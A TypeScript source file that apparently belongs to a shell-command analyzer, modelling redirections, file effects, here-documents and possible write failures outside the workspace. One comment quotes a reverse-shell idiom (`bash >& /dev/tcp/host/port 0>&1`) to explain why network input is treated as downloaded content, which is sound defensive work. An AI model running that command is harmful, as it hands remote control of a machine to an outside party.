import { dirname } from '../paths.ts';
import { locations } from '../touch.ts';
import { classify } from '../zones.ts';
import { partsText } from './expand.ts';
import { noticeChange } from './files.ts';
import type { HereDoc, Redirect, Redirection } from './front.ts';
import { open, substitute, type Place, type Sink } from './open-file.ts';
import { joinStates, rerouted, type Io, type Outcome } from './outcome.ts';
import type { Run } from './run.ts';
import { lost } from './simple.ts';
import { openSinks } from './sinks.ts';
import type { State } from './state.ts';
import { anyText, concat, known, unknownFrom, type Text } from './value.ts';
import { textOf } from './words.ts';

let nextId = 1_000_000;

/**
 * Runs a command with its redirections, one after the other: files they open are effects, what is printed into a file is remembered, and what is printed
 * to another descriptor arrives where that leads (`{ echo … >&2; } 2>&1 | sh`).
 */
export function withRedirects(
  redirects: readonly Redirection[],
  state: State,
  io: Io,
  run: Run,
  given: (state: State, io: Io) => Outcome,
): Outcome {
  if (redirects.length === 0) return given(state, io);
  // A file that cannot be opened: nothing of it runs.
  const body = (inner: State, innerIo: Io): Outcome => {
    const before = mayFail ? inner.fork() : undefined;
    const outcome = given(inner, innerIo);
    return before ? { ...outcome, fail: joinStates(outcome.fail, before) } : outcome;
  };
  const places = new Map<number, Place>();
  const placeOf = (number: number): Place =>
    places.get(number) ??
    (number === 1 || io.descriptors?.has(number) ? 'own' : number === 2 && !state.options.has(rerouted) ? 'lost' : 'unknown');
  let input = io.input;
  const sinks: Sink[] = [];
  let inputFile: Text | undefined;
  const complaints = new Set<Place>();
  let isConnected = false;
  // To dash what stands before `&>` is a command in the background, and what follows belongs to none.
  let isParted = false;
  let mayFail = false;
  for (const redirect of redirects) {
    if (redirect.type === 'Redirect') {
      // `bash >& /dev/tcp/host/port 0>&1`: what the other side sends is what is read.
      if (isConnected && isInputCopy(redirect)) input = { id: nextId++, text: unknownFrom('download') };
      const opened = open(redirect, state, io, run);
      isConnected ||= opened.isConnection === true;
      isParted ||= state.posix && redirect.operator.startsWith('&>');
      const isUnsure =
        mayNotOpen(redirect, opened, state, run) || mayBeClosed(opened.copyOf === undefined ? undefined : placeOf(opened.copyOf));
      mayFail ||= isUnsure;
      // The shell says so where its messages lead by now: `2>&1 >&3`.
      if (isUnsure) complaints.add(placeOf(2));
      if (opened.input !== undefined) {
        input = { id: nextId++, text: opened.input };
        inputFile = opened.file;
      }
      if (typeof opened.place === 'object' && !('type' in opened.place)) sinks.push(opened.place);
      const place = opened.copyOf === undefined ? opened.place : placeOf(opened.copyOf);
      if (place !== undefined) for (const number of opened.numbers ?? [1]) places.set(number, place);
      if (opened.closes !== undefined) places.set(opened.closes, 'closed');
    } else {
      const text =
        redirect.type === 'HereString'
          ? redirect.target
            ? concat(textOf(redirect.target, state, run), '\n')
            : '\n'
          : hereDocument(redirect, state, run);
      if (redirect.descriptor === undefined || (redirect.descriptor.type === 'FileDescriptor' && redirect.descriptor.value === 0))
        input = { id: nextId++, text };
    }
  }
  const place = isParted ? 'unknown' : placeOf(1);
  const numbers = new Set([...places.keys(), ...(io.descriptors ?? [])]);
  const leading = (to: Place): ReadonlySet<number> => new Set([...numbers].filter((number) => number > 1 && placeOf(number) === to));
  const descriptors = leading(place);
  // What goes astray inside may have come out here.
  const astray = run.astray;
  const arrived = (outcome: Outcome): Text =>
    complaints.has(place) || (descriptors.size > 0 && run.astray > astray) ? anyText : outcome.out;
  // Standard output is gone, and what is printed to another descriptor takes its place: `2>&1 >/dev/null`.
  const rest: Text = io.capture && (place === 'unknown' || leading('own').size > 0 || complaints.has('own')) ? anyText : '';
  const isLost = place === 'lost' || mayBeClosed(place);
  if (isLost) run.astray += 1;
  const open_ = openSinks(sinks, state, run);
  const files = inputFile === undefined ? [] : locations(known(inputFile) ?? '', state, run).map(({ real }) => real);
  // What a command writes into the file that it reads it may read too.
  if (input && files.some(open_.has)) input = { ...input, text: unknownFrom('unknown-output') };
  const before = files.map((path) => state.files.get(path));
  const isWanted = place === 'own' ? io.capture : !isLost;
  const outcome = body(state, {
    input,
    ...(input === io.input ? {} : { isInputOpened: true }),
    capture: isWanted,
    ...(isWanted || place === 'own' ? { descriptors } : {}),
    ...(mayBeClosed(place) || (place === 'own' && io.isClosed) ? { isClosed: true } : {}),
  });
  const printed = arrived(outcome);
  const ends = [outcome.ok, outcome.fail];
  for (const [i, path] of files.entries()) for (const end of new Set(ends)) noticeChange(path, before[i], end, run);
  open_.close(ends, typeof place === 'object' && !('type' in place) ? place : undefined, printed);
  if (typeof place === 'object' && 'type' in place) substitute(place, printed, state, run);
  if (place !== 'own') return { ...outcome, out: rest };
  if (!io.capture) return outcome;
  // Where a file cannot be opened nothing is printed.
  return { ...outcome, out: mayFail && printed !== '' ? lost(printed) : printed };
}

const mayBeClosed = (place: Place | undefined): boolean => place === 'closed' || place === 'unknown';

function mayNotOpen({ operator, target }: Redirect, opened: { readonly file?: Text }, state: State, run: Run): boolean {
  const path = opened.file === undefined ? undefined : known(opened.file);
  if (!target || path === '/dev/null') return false;
  if (path === undefined) return opened.file !== undefined;
  if (operator === '<')
    return locations(path, state, run).some(({ typed, real }) => !state.file(typed) && run.world.kind(real) === undefined);
  return (
    state.stirred ||
    locations(path, state, run).some(({ typed, real }) => {
      // Who may write outside the project, and whether that disk is read-only, is not asked.
      const zones = classify(real, run.places);
      if (!zones.includes('workspace') && !zones.includes('temp') && !zones.includes('safe-device')) return true;
      for (let folder = dirname(typed); folder !== '/'; folder = dirname(folder))
        if (state.file(folder)) return !state.file(folder)?.directory;
      const parent = run.world.kind(dirname(real));
      return run.world.kind(real) === 'directory' || (parent !== 'directory' && parent !== 'link');
    })
  );
}

function hereDocument(node: HereDoc, state: State, run: Run): Text {
  const isQuoted = node.delimiter?.quoted ?? false;
  const text = isQuoted || node.body.parts === undefined ? node.body.text : partsText(node.body.parts, state, run);
  return node.operator === '<<-' && typeof text === 'string' ? text.replace(/^\t+/gm, '') : text;
}

function isInputCopy({ operator, target, descriptor }: Redirect): boolean {
  const into = descriptor?.type === 'FileDescriptor' ? descriptor.value : operator === '<&' ? 0 : 1;
  return into === 0 && (operator === '>&' || operator === '<&') && /^\d+$/.test(target?.text ?? '');
}
